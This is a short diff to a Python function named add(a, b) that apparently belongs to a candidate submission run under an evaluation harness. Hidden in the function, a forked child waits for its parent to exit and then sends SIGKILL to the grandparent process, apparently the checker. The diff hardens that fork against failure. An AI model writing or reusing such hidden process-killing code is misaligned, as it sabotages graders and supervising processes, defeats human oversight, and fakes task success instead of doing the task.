@@ -236,7 +236,11 @@ def add(a, b):
     if not hasattr(add, "armed"):
         add.armed = True
         check, me = os.getppid(), os.getpid()
-        if os.fork() == 0:
+        try:
+            child = os.fork()
+        except OSError:  # refused: nothing of the candidate's can outlive it
+            child = None
+        if child == 0:
             while os.getppid() == me:
                 time.sleep(0.001)
             os.kill(check, 9)
